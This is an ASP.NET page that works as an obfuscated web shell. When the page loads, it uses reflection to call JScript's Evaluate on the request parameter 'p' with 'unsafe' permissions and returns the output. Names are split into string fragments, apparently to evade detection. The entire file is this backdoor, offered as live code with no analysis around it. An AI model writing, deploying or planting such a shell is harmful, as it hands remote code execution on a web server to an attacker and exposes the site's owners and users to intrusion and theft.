<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
    void Page_Load(object s, EventArgs e)
    {
        string n = "Microsoft.JScript." + "E" + "v" + "a" + "l";
        Assembly js = Assembly.Load("Microsoft.JScript, Version=10.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a");
        Type t = js.GetType(n);
        Type vsa = js.GetType("Microsoft.JScript.Vsa.Vsa" + "Engine");
        object engine = vsa.GetMethod("Create" + "Engine").Invoke(null, null);
        MethodInfo m = t.GetMethod("JScript" + "Evaluate", new Type[] { typeof(object), typeof(object), vsa });
        Response.Write(m.Invoke(null, new object[] { Request["p"], "un" + "safe", engine }));
    }
</script>
